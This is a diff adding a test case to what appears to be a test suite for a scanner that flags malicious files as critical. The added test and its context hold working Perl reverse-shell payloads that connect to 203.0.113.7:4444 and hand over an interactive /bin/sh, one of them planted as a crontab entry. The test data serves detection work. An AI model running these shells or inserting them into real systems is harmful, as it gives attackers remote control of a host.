@@ -73,6 +73,14 @@ exec $sh||die();`;
     expect(judge('/var/www/cgi-bin/b.pl', text)?.severity).toBe('critical');
   });
 
+  it('finds a Perl shell whose socket is a lexical handle, duplicated by the three-argument open', () => {
+    const text = `socket(my $s, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
+connect($s, sockaddr_in(4444, inet_aton('203.0.113.7')));
+open(STDIN, '<&', $s); open(STDOUT, '>&', $s);
+system('/bin/sh -i');`;
+    expect(judge('/tmp/.s.pl', text)?.severity).toBe('critical');
+  });
+
   it('finds the IO::Socket one-liner in a crontab', () => {
     const line = `* * * * * perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n`;
     expect(judge('/etc/cron.d/x', line)?.severity).toBe('critical');
